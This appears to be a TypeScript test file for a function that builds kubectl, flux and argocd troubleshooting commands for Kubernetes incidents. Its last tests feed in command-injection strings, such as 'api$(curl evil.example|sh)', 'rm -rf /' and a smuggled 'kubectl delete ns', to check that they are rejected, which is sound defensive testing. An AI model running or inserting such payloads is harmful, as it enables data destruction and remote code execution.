import { MAX_COMMAND_TARGETS, troubleshootingCommands } from '../../src/incidents/commands.js';
import type { TargetRef } from '../../src/incidents/target-ref.js';

describe('troubleshooting commands', () => {
  it('names a Deployment by its owner, never a pod, and lets kubectl pick a current pod', () => {
    expect(
      troubleshootingCommands([{ kind: 'Deployment', namespace: 'shop', name: 'store-front' }]),
    ).toEqual([
      'kubectl -n shop describe deployment/store-front',
      'kubectl -n shop logs deployment/store-front --all-containers --previous --tail=200',
      'kubectl -n shop rollout history deployment/store-front',
      'kubectl -n shop get events --sort-by=.lastTimestamp',
    ]);
  });

  it.each([
    ['StatefulSet', 'statefulset/db'],
    ['DaemonSet', 'daemonset/db'],
    ['ReplicaSet', 'replicaset/db'],
    ['Job', 'job/db'],
    ['CronJob', 'cronjob/db'],
  ] as const)('describes a %s as %s', (kind, resource) => {
    const commands = troubleshootingCommands([{ kind, namespace: 'data', name: 'db' }]);
    expect(commands[0]).toBe(`kubectl -n data describe ${resource}`);
  });

  it('reads the logs of the kinds kubectl can pick a pod of, and none of a CronJob', () => {
    const logs = (kind: TargetRef['kind']) =>
      troubleshootingCommands([{ kind, namespace: 'data', name: 'db' }]).filter((c) =>
        c.includes(' logs '),
      );
    expect(logs('StatefulSet')).toEqual([
      'kubectl -n data logs statefulset/db --all-containers --previous --tail=200',
    ]);
    expect(logs('Job')).toEqual(['kubectl -n data logs job/db --all-containers']);
    expect(logs('CronJob')).toEqual([]);
  });

  it("shows a Flux object through Flux's CLI and kubectl, the resource spelt with its group", () => {
    expect(
      troubleshootingCommands([
        { kind: 'HelmRelease', namespace: 'podinfo', name: 'podinfo' },
        { kind: 'Kustomization', namespace: 'flux-system', name: 'apps' },
      ]),
    ).toEqual([
      'flux get helmreleases -n podinfo podinfo',
      'flux logs --kind=HelmRelease --name=podinfo -n podinfo',
      'kubectl -n podinfo describe helmreleases.helm.toolkit.fluxcd.io podinfo',
      'flux get kustomizations -n flux-system apps',
      'flux logs --kind=Kustomization --name=apps -n flux-system',
      'kubectl -n flux-system describe kustomizations.kustomize.toolkit.fluxcd.io apps',
      'kubectl -n podinfo get events --sort-by=.lastTimestamp',
      'kubectl -n flux-system get events --sort-by=.lastTimestamp',
    ]);
  });

  it('asks for both kinds a Workload of unknown kind can be', () => {
    expect(
      troubleshootingCommands([{ kind: 'Workload', namespace: 'ops', name: 'log-shipper' }]),
    ).toEqual([
      'kubectl -n ops get daemonset/log-shipper job/log-shipper --ignore-not-found',
      'kubectl -n ops describe daemonset/log-shipper job/log-shipper',
      'kubectl -n ops get events --sort-by=.lastTimestamp',
    ]);
  });

  it('gives a node its own commands and no namespace', () => {
    expect(troubleshootingCommands([{ kind: 'Node', name: 'worker-1' }])).toEqual([
      'kubectl describe node worker-1',
      'kubectl get pods -A -o wide --field-selector spec.nodeName=worker-1',
      'kubectl top node worker-1',
    ]);
  });

  it("finds an Argo CD application in the config's namespace, argocd by default", () => {
    const app: TargetRef = { kind: 'Application', name: 'shop' };
    expect(troubleshootingCommands([app])).toEqual([
      'kubectl -n argocd get applications.argoproj.io shop -o yaml',
      'argocd app get shop',
    ]);
    expect(troubleshootingCommands([app], { argocdNamespace: 'gitops' })[0]).toBe(
      'kubectl -n gitops get applications.argoproj.io shop -o yaml',
    );
    expect(troubleshootingCommands([app], { argocdNamespace: 'git ops; rm -rf /' })).toEqual([]);
  });

  it('describes claims and certificates', () => {
    expect(
      troubleshootingCommands([
        { kind: 'PersistentVolumeClaim', namespace: 'data', name: 'pg-data' },
        { kind: 'Certificate', namespace: 'web', name: 'shop-tls' },
      ]),
    ).toEqual([
      'kubectl -n data describe pvc pg-data',
      'kubectl -n web describe certificates.cert-manager.io shop-tls',
      'kubectl -n data get events --sort-by=.lastTimestamp',
      'kubectl -n web get events --sort-by=.lastTimestamp',
    ]);
  });

  it('lists a namespace’s events once however many targets live there', () => {
    const commands = troubleshootingCommands([
      { kind: 'Deployment', namespace: 'shop', name: 'api' },
      { kind: 'PersistentVolumeClaim', namespace: 'shop', name: 'data' },
      { kind: 'Deployment', namespace: 'shop', name: 'api' },
    ]);
    expect(commands.filter((c) => c.includes('get events'))).toEqual([
      'kubectl -n shop get events --sort-by=.lastTimestamp',
    ]);
    expect(commands.filter((c) => c.includes('describe deployment/api'))).toHaveLength(1);
  });

  it(`gives commands for at most ${MAX_COMMAND_TARGETS} targets`, () => {
    const refs: TargetRef[] = Array.from({ length: 12 }, (_, i) => ({
      kind: 'Node',
      name: `worker-${i}`,
    }));
    const described = troubleshootingCommands(refs).filter((c) => c.startsWith('kubectl describe'));
    expect(described).toEqual(
      Array.from({ length: MAX_COMMAND_TARGETS }, (_, i) => `kubectl describe node worker-${i}`),
    );
  });

  it('skips a namespaced target without a namespace and a node given one in its name', () => {
    expect(troubleshootingCommands([{ kind: 'Deployment', name: 'api' }])).toEqual([]);
    expect(troubleshootingCommands([{ kind: 'Node', name: 'kube-system/worker-1' }])).toEqual([]);
  });

  it('puts no hostile name into any command; valid targets beside them still get theirs', () => {
    const hostile = [
      'api`id`',
      'api$(curl evil.example|sh)',
      'api;rm -rf /',
      'api\nkubectl delete ns shop',
      '../../etc/passwd',
      'api && true',
      "api' --as=system:admin",
      'API',
      '-n',
      '',
      'a'.repeat(254),
    ];
    const refs: TargetRef[] = hostile.flatMap((bad) => [
      { kind: 'Deployment', namespace: 'shop', name: bad },
      { kind: 'Deployment', namespace: bad, name: 'api' },
      { kind: 'Node', name: bad },
      { kind: 'Application', name: bad },
      { kind: 'PersistentVolumeClaim', namespace: bad, name: 'data' },
    ]);
    expect(troubleshootingCommands(refs)).toEqual([]);
    expect(troubleshootingCommands([...refs, { kind: 'Node', name: 'worker-1' }])).toEqual([
      'kubectl describe node worker-1',
      'kubectl get pods -A -o wide --field-selector spec.nodeName=worker-1',
      'kubectl top node worker-1',
    ]);
  });

  it('ignores a kind it has no rules for (a record edited by hand)', () => {
    const odd = {
      kind: 'Pod',
      namespace: 'shop',
      name: 'api-7d9f8b6c4-xk2pq',
    } as unknown as TargetRef;
    expect(troubleshootingCommands([odd])).toEqual([]);
  });
});
